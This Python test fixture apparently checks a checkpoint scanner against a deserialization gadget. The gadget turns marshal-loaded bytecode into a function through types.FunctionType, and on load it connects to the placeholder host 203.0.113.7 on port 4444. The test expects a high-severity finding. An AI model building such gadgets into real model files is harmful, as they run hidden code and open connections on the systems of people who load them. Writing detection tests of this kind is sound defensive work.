"""Class: gadget. marshal reads code, types.FunctionType makes a function of it."""

import marshal
from pathlib import Path

from tests.adversarial.craft import call, checkpoint

EXPECT = {"address": "203.0.113.7", "port": 4444, "finding": "SL501", "severity": "high"}
_SOURCE = "import socket; socket.create_connection(('203.0.113.7', 4444), 1)"


def make(folder: Path) -> Path:
    code = call("marshal:loads", marshal.dumps(compile(_SOURCE, "x", "exec")))
    return checkpoint(
        folder,
        call(
            call(
                "types:FunctionType",
                code,
                {
                    "__builtins__": {
                        "__import__": call(
                            "builtins:getattr",
                            call("importlib:import_module", "builtins"),
                            "__import__",
                        )
                    }
                },
            )
        ),
    )
